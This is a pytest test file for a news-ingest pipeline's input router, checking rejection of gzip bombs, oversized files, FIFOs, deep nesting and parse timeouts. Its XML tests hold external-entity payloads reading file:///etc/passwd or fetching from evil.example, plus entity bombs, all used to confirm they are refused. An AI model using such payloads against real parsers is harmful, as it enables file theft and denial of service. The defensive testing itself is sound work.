"""Inputs go to the reader their content calls for, whatever their extension says."""

import codecs
import contextlib
import gzip
import json
import os
import pickle
import signal
import threading
import time

import pytest

from media_etl import pipeline
from media_etl.ingest.deadline import DeadlineExceeded, deadline
from media_etl.ingest.router import Limits, entity_problem, read_path, route_bytes
from tests.conftest import REPO_ROOT, SEEDS

PAGE = b"""<!DOCTYPE html><html lang="en"><head><title>Agencies sign exchange deal</title></head>
<body><article><h1>Agencies sign exchange deal</h1>
<p>News agencies of the region agreed on Monday to exchange reporters for six months, officials said.</p>
<p>The first exchange starts in January, and each agency will host two correspondents in its newsroom.</p>
<p>Editors said the scheme would help them cover each other's countries with fewer translation errors.</p>
</article></body></html>"""
RSS = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><link>https://example.org/</link>
<item><title>First story</title><link>https://example.org/1</link><guid>g1</guid>
<description>Body of the first story.</description></item></channel></rss>"""
RECORD = {
    "title": "Export title",
    "maintext": "Export body.",
    "date_publish": "2025-01-02 03:04:05",
    "url": "https://x/1",
}


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("story.txt", PAGE, "html"),  # HTML under a .txt name
        ("feed.html", RSS, "feed"),  # a feed under an .html name
        ("page.bin", gzip.compress(PAGE), "html"),  # gzip is opened whatever the name
        ("export.data", (json.dumps(RECORD) + "\n").encode(), "jsonl"),
        ("wire.dat", (SEEDS / "002_3a0b39f4f30f4f20.txt").read_bytes(), "text"),
    ],
)
def test_content_decides_the_reader(name, data, kind):
    items, rejections = route_bytes(data, name)
    assert rejections == []
    assert {item.source_kind for item in items} == {kind}


def test_csv_is_recognised_by_header_and_name():
    items, rejections = route_bytes(b"title,maintext\nA title,Some body text.\n", "export.csv")
    assert rejections == [] and items[0].source_kind == "csv"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (gzip.compress(PAGE)[:40], "bad_gzip"),
        (gzip.compress(b"x" * 5000), "too_large"),
    ],
)
def test_bad_or_oversized_gzip_is_rejected(data, reason):
    items, rejections = route_bytes(data, "page.html.gz", Limits(max_decompressed_bytes=1000))
    assert items == []
    assert [r.reason_code for r in rejections] == [reason]


def test_oversized_file_is_rejected_unread(tmp_path):
    path = tmp_path / "big.txt"
    path.write_bytes(b"x" * 2000)
    items, rejections = read_path(str(path), Limits(max_input_bytes=1000))
    assert items == [] and rejections[0].reason_code == "too_large"


def test_a_folder_is_not_read_as_a_file(tmp_path):
    items, rejections = read_path(str(tmp_path))
    assert items == [] and [(r.reason_code, r.detail) for r in rejections] == [
        ("not_regular_file", "path is a folder, not a regular file")
    ]


def test_missing_path_is_unreadable(tmp_path):
    items, rejections = read_path(str(tmp_path / "gone.txt"))
    assert items == [] and rejections[0].reason_code == "unreadable"
    assert "No such file" in rejections[0].detail


def test_a_fifo_is_never_opened_for_a_blocking_read(tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    items, rejections = read_path(str(fifo))  # would block forever without O_NONBLOCK and the fstat check
    assert items == [] and [r.reason_code for r in rejections] == ["not_regular_file"]


def test_gzip_with_several_members_is_read_whole():
    text = (SEEDS / "002_3a0b39f4f30f4f20.txt").read_bytes()
    middle = len(text) // 2
    items, rejections = route_bytes(gzip.compress(text[:middle]) + gzip.compress(text[middle:]) + b"\0" * 8, "w.gz")
    assert rejections == [] and items[0].text == text.decode("utf-8")


def test_gzip_bombs_spread_over_members_are_caught():
    member = gzip.compress(b"x" * 600)
    _, rejections = route_bytes(member * 2, "page.gz", Limits(max_decompressed_bytes=1000))
    assert [r.reason_code for r in rejections] == ["too_large"]


def test_garbage_after_gzip_data_is_rejected():
    _, rejections = route_bytes(gzip.compress(PAGE) + b"trailing junk", "page.gz")
    assert [r.reason_code for r in rejections] == ["bad_gzip"]


@pytest.mark.parametrize(
    ("data", "kind"),
    [(PAGE, "an HTML page"), ((SEEDS / "002_3a0b39f4f30f4f20.txt").read_bytes(), "a plain-text document")],
)
def test_one_document_over_the_document_limit_is_too_large(data, kind):
    _, rejections = route_bytes(data, "doc", Limits(max_document_bytes=100))
    assert [(r.stage, r.reason_code) for r in rejections] == [("read", "too_large")]
    assert rejections[0].detail.startswith(f"{kind} of {len(data)} bytes")


def test_exports_are_not_bound_by_the_document_limit():
    record = json.dumps(RECORD) + "\n"
    items, rejections = route_bytes((record * 20).encode(), "export.jsonl", Limits(max_document_bytes=100))
    assert rejections == [] and len(items) == 20


def test_page_nested_too_deep_is_rejected_before_extraction():
    deep = b"<html><body>" + b"<div>" * 40 + b"<p>text</p>" + b"</div>" * 40 + b"</body></html>"
    _, rejections = route_bytes(deep, "deep.html", Limits(max_html_depth=30))
    assert [(r.stage, r.reason_code) for r in rejections] == [("parse", "html_too_deep")]
    items, _ = route_bytes(PAGE, "page.html", Limits(max_html_depth=30))
    assert len(items) == 1


def test_limits_have_documented_defaults_and_pickle():
    limits = Limits()
    assert (limits.max_input_bytes, limits.max_decompressed_bytes, limits.max_document_bytes) == (
        50 * 1024**2,
        200 * 1024**2,
        10 * 1024**2,
    )
    assert (limits.max_html_depth, limits.max_parse_seconds) == (128, 60.0)
    assert pickle.loads(pickle.dumps(limits)) == limits  # limits travel to worker processes
    documented = (REPO_ROOT / "docs" / "limits.md").read_text(encoding="utf-8")
    for name in ("max_input_bytes", "max_decompressed_bytes", "max_document_bytes", "max_html_depth"):
        assert f"`{name}`" in documented
    assert "`max_parse_seconds`" in documented


# --- exports: records that break are quarantined, the rest load ----------------------------------


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (b"[" * 50_000 + b"]" * 50_000, "deep.json", [("json_too_deep", 1)]),
        (
            (json.dumps(RECORD) + "\n" + "[" * 50_000 + "]" * 50_000 + "\n").encode(),
            "deep.jsonl",
            [("json_too_deep", 2)],
        ),
        (
            (json.dumps(RECORD) + '\n{"title": "x", "maintext": "y", "n": ' + "7" * 5000 + "}\n").encode(),
            "n.jsonl",
            [("bad_record", 2)],
        ),
        (b"title,maintext\nA,B,C\nD\nE,F\n", "rows.csv", [("ragged_row", 2), ("ragged_row", 3)]),
        (b'title,maintext\nBig,"' + b"w " * 70_000 + b'"\nE,F\n', "big.csv", [("field_too_large", 2)]),
    ],
)
def test_export_records_that_break_are_rejected_with_their_line(data, name, expected):
    items, rejections = route_bytes(data, name)
    assert [(r.reason_code, r.line) for r in rejections] == expected
    assert all(r.stage == "parse" for r in rejections)
    assert len(items) == (0 if name == "deep.json" else 1)


# --- XML entities: refused before any parser sees them ----------------------------------------------

FEED_BODY = b"""<rss version="2.0"><channel><title>W</title><link>https://e.org/</link>
<item><title>Story</title><link>https://e.org/1</link><description>Body &e; text.</description></item>
</channel></rss>"""


def feed(prolog: bytes) -> bytes:
    return b'<?xml version="1.0"?>\n' + prolog + b"\n" + FEED_BODY


@pytest.mark.parametrize(
    "prolog",
    [
        b"",
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">',
        b'<!DOCTYPE rss [<!ENTITY e "&#169;"> <!ENTITY f "short &e; text">]>',
        b'<!DOCTYPE rss [<!-- a comment with a quote \' and ] in it --> <!ENTITY e "ok">]>',
    ],
)
def test_harmless_document_types_pass(prolog):
    assert entity_problem(feed(prolog)) is None


@pytest.mark.parametrize(
    ("prolog", "reason"),
    [
        (b'<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "external_entity"),
        (b'<!DOCTYPE rss [<!ENTITY e PUBLIC "-//x//y" "http://evil.example/e">]>', "external_entity"),
        (b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>', "external_entity"),
        (b'<!DOCTYPE rss [<!ENTITY a "&b;"> <!ENTITY b "&a;"> <!ENTITY e "&a;">]>', "entity_bomb"),
        (b'<!DOCTYPE rss [<!ENTITY x "' + b"x" * 2000 + b'"> <!ENTITY e "&x;">]>', "entity_bomb"),
        (
            b'<!DOCTYPE rss [<!ENTITY x "0123456789"> <!ENTITY e "'
            + b"&x;" * 100
            + b'"> <!ENTITY f "'
            + b"&e;" * 100
            + b'">]>',
            "entity_bomb",
        ),
        (
            b"<!-- <b> markup in a comment --><!DOCTYPE rss [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
            "external_entity",
        ),
        (b"<!DOCTYPE rss [" + b'<!ENTITY e "v">' * 2000 + b"]>", "dtd_too_large"),
    ],
)
def test_dangerous_entities_are_refused(prolog, reason):
    found = entity_problem(feed(prolog))
    assert found is not None and found[0] == reason
    _, rejections = route_bytes(feed(prolog), "feed.rss")
    assert [(r.stage, r.reason_code) for r in rejections] == [("parse", reason)]


def test_many_references_to_a_modest_entity_are_a_bomb():
    value = b"y" * 1000
    body = FEED_BODY.replace(b"Body &e; text.", b"&e;" * 2000)
    assert entity_problem(b'<!DOCTYPE rss [<!ENTITY e "' + value + b'">]>' + body) == (
        "entity_bomb",
        "document type declaration defines an entity bomb: its entity references would expand to 2000000 "
        "characters, over 1048576",
    )


def test_entities_are_found_in_utf16_documents():
    data = feed(b'<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]>').decode().encode("utf-16")
    assert entity_problem(data) is not None
    assert entity_problem(data.removeprefix(codecs.BOM_UTF16_LE)) is not None


def test_entity_scan_is_linear_on_hostile_prologs():
    for hostile in (b"<?" * 200_000, b"<!--" * 200_000, b"<!DOCTYPE rss [" + b"<!--" * 200_000):
        started = time.perf_counter()
        entity_problem(hostile)
        assert time.perf_counter() - started < 1.0


# --- the parse deadline ----------------------------------------------------------------------------


def test_deadline_interrupts_a_busy_block_in_the_main_thread():
    started = time.perf_counter()
    with pytest.raises(DeadlineExceeded), deadline(0.05) as armed:
        assert armed
        while True:
            pass
    assert time.perf_counter() - started < 2
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)
    assert signal.getsignal(signal.SIGALRM) is signal.SIG_DFL


def test_deadline_is_not_swallowed_by_except_exception():
    # contextlib.suppress(Exception) stands for the catch-all a parser wraps around its work.
    with pytest.raises(DeadlineExceeded), deadline(0.05), contextlib.suppress(Exception):
        time.sleep(5)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # Python prints the discarded one
def test_deadline_raised_where_python_discards_it_still_counts():
    """A timeout raised inside a finaliser is only printed by Python; the block still timed out."""

    class Finalised:
        def __del__(self) -> None:
            time.sleep(0.2)  # the timer fires here, where an exception cannot propagate

    with pytest.raises(DeadlineExceeded), deadline(0.05):
        Finalised()  # dropped at once: __del__ runs inside the block


def test_deadline_leaves_a_fast_block_alone_and_restores_the_handler():
    def previous(signum, frame):
        raise AssertionError("not expected")

    old = signal.signal(signal.SIGALRM, previous)
    try:
        with deadline(5) as armed:
            assert armed
        assert signal.getsignal(signal.SIGALRM) is previous
        assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)
    finally:
        signal.signal(signal.SIGALRM, old)


@pytest.mark.parametrize("seconds", [None, 0])
def test_no_deadline_when_switched_off(seconds):
    with deadline(seconds) as armed:
        assert not armed


def test_deadline_degrades_to_no_limit_outside_the_main_thread():
    seen: list[object] = []

    def work():
        with deadline(0.01) as armed:
            time.sleep(0.05)
            seen.append(armed)

    worker = threading.Thread(target=work)
    worker.start()
    worker.join()
    assert seen == [False]


def test_deadline_leaves_another_timer_alone():
    signal.setitimer(signal.ITIMER_REAL, 100)
    previous = signal.signal(signal.SIGALRM, signal.SIG_IGN)
    try:
        with deadline(0.01) as armed:
            assert not armed
        assert signal.getitimer(signal.ITIMER_REAL)[0] > 90
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def test_read_file_turns_a_timeout_into_a_rejection(tmp_path, monkeypatch):
    path = tmp_path / "slow.txt"
    path.write_bytes((SEEDS / "002_3a0b39f4f30f4f20.txt").read_bytes())

    def stall(*args, **kwargs):
        time.sleep(5)
        raise AssertionError("the deadline did not fire")

    monkeypatch.setattr(pipeline, "read_input", stall)
    items, rejections = pipeline.read_file(str(path), Limits(max_parse_seconds=0.05))
    assert items == []
    assert [(r.stage, r.reason_code, r.source_uri) for r in rejections] == [("parse", "parse_timeout", str(path))]


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="needs Linux /proc")
def test_a_file_that_reports_no_size_is_read_whole():
    items, rejections = read_path("/proc/self/status")  # st_size is 0, the content is not
    assert rejections == [] and "VmRSS" in items[0].text


def test_plain_text_that_quotes_a_doctype_is_not_xml():
    text = b'Experts warned about <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> in feeds.\n'
    assert entity_problem(text) is None
